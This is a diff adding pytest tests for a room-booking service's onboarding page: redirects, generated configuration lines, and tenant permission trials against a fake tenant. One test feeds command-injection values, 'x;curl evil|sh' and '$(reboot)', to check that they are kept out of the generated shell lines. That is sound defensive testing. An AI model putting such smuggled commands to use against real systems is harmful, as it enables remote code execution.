@@ -1,0 +1,155 @@
+"""The first page: who is led there, the lines it writes, and trying what a tenant permits."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from engine.app.service import Outside
+from engine.app.trials import try_tenant
+from engine.errors import CredentialsRevoked, MailboxClosed, Refused
+from engine.ids import Address
+from engine.rooms.calendar import EventDraft
+from engine.rooms.room import Place
+from engine.web.pages.welcome_parts import Needed, Outcome, Trial
+from tests.web.conftest import TestClient
+from tests.web.visitors import House, open_house
+
+
+@pytest.fixture
+def house(tmp_path: Path) -> Iterator[House]:
+    trials = [
+        Trial(Needed.IDENTITY, Outcome.OK),
+        Trial(Needed.PLACES, Outcome.FAILED, "403: no Place.Read.All"),
+    ]
+    with open_house(tmp_path, Outside(try_tenant=lambda: trials)) as found:
+        yield found
+
+
+@pytest.fixture
+def admin(house: House) -> TestClient:
+    return house.signed_in("admin")
+
+
+class TestComingIn:
+    def test_leads_administrators_of_the_demonstration_here_once(self, house: House, admin: TestClient) -> None:
+        assert admin.get("/").headers["Location"] == "/welcome"
+        assert admin.post("/welcome/done").headers["Location"] == "/board"
+        assert admin.get("/").headers["Location"] == "/board"
+
+    def test_leads_everybody_else_to_the_board(self, house: House) -> None:
+        for role in ("requester", "viewer", "staff"):
+            visitor = house.signed_in(role)
+            assert visitor.get("/").headers["Location"] == "/board"
+            assert visitor.get("/welcome").status_code == 403
+
+
+class TestTheLines:
+    def test_are_written_from_what_is_known(self, admin: TestClient) -> None:
+        known = {"tenant": "contoso.example", "client": "0e4b-6a4c", "url": "https://accord.example.org"}
+
+        page = admin.get("/welcome", params=known).text
+
+        assert "ENGINE_GRAPH__TENANT_ID=contoso.example" in page
+        assert "ENGINE_WEB__PUBLIC_URL=https://accord.example.org" in page
+        assert "New-ManagementRoleAssignment -App 0e4b-6a4c" in page
+        assert "ENGINE_SYNC__MODE=read_only" in page
+        assert "DELIVERY=poll" not in page
+
+    def test_poll_without_a_public_address(self, admin: TestClient) -> None:
+        assert "ENGINE_SYNC__DELIVERY=poll" in admin.get("/welcome").text
+
+    def test_hold_nothing_that_a_shell_would_run(self, admin: TestClient) -> None:
+        """Somebody else may have made the link."""
+        page = admin.get("/welcome", params={"tenant": "x;curl evil|sh", "client": "$(reboot)"}).text
+
+        lines = " ".join(re.findall(r"<pre.*?</pre>", page, re.DOTALL))
+        assert "ENGINE_GRAPH__TENANT_ID=…" in lines
+        assert "evil" not in lines
+        assert "reboot" not in lines
+
+
+class TestTrying:
+    def test_shows_what_came_of_it_and_what_to_do(self, admin: TestClient) -> None:
+        whole, piece = admin.post("/welcome/try"), admin.post("/welcome/try", headers={"HX-Request": "true"})
+
+        for answer in (whole, piece):
+            assert "The application may sign in</b>: works" in answer.text
+            assert "Application permission Place.Read.All, with admin consent." in answer.text
+            assert "403: no Place.Read.All" in answer.text
+        assert "<html" in whole.text
+        assert "<html" not in piece.text
+
+
+class Tenant:
+    """A calendar side that answers as it is told to."""
+
+    def __init__(self, **errors: Exception) -> None:
+        self.errors = errors
+        self.written: list[str] = []
+
+    async def fetch_places(self) -> AsyncIterator[tuple[Place, ...]]:
+        self._answer("places")
+        yield (Place("dir-fern", Address("fern@example.org"), "Fern"),)
+
+    async def find_event(self, mailbox: str, ical_uid: str) -> None:
+        self._answer("room")
+
+    async def create_event(self, mailbox: str, draft: EventDraft) -> Any:
+        self._answer("writing")
+        assert draft.rooms == ()
+        self.written.append(mailbox)
+        return type("Made", (), {"event_id": "event-1"})
+
+    async def delete_event(self, mailbox: str, event_id: str) -> bool:
+        assert event_id == "event-1"
+        self.written.remove(mailbox)
+        return True
+
+    def _answer(self, what: str) -> None:
+        if what in self.errors:
+            raise self.errors[what]
+
+
+def outcomes(house: House, tenant: Tenant) -> dict[str, str]:
+    return {trial.needed.value: trial.outcome.value for trial in asyncio.run(try_tenant(house.office, tenant))}  # type: ignore[arg-type]
+
+
+class TestTheTrials:
+    def test_go_on_after_one_has_failed(self, house: House) -> None:
+        """Each is told for itself; nothing is subscribed to in this house."""
+        house.office.overrides.save_override("loans.default_user", "desk@example.org", "app:test")
+        house.office.rules.forget()
+
+        assert outcomes(house, Tenant()) == {
+            "identity": "ok", "places": "ok", "room_calendars": "ok", "writing": "ok", "notifications": "failed",
+        }  # fmt: skip
+        assert outcomes(house, Tenant(room=MailboxClosed("no"), writing=Refused("no"))) == {
+            "identity": "ok", "places": "ok", "room_calendars": "failed", "writing": "failed",
+            "notifications": "failed",
+        }  # fmt: skip
+        assert outcomes(house, Tenant(places=Refused("no")))["room_calendars"] == "not_tried"
+
+    def test_end_where_nobody_knows_us(self, house: House) -> None:
+        found = outcomes(house, Tenant(places=CredentialsRevoked("invalid_client")))
+
+        assert found.pop("identity") == "failed"
+        assert set(found.values()) == {"not_tried"}
+
+    def test_leave_nothing_behind_and_write_only_where_the_mode_allows_it(self, house: House) -> None:
+        tenant, overrides = Tenant(), house.office.overrides
+        assert outcomes(house, tenant)["writing"] == "not_tried"
+        overrides.save_override("loans.default_user", "desk@example.org", "app:test")
+        house.office.rules.forget()
+        assert outcomes(house, tenant)["writing"] == "ok"
+        assert tenant.written == []
+
+        overrides.save_override("sync.mode", "read_only", "app:test")
+        house.office.rules.forget()
+
+        assert outcomes(house, tenant)["writing"] == "not_tried"
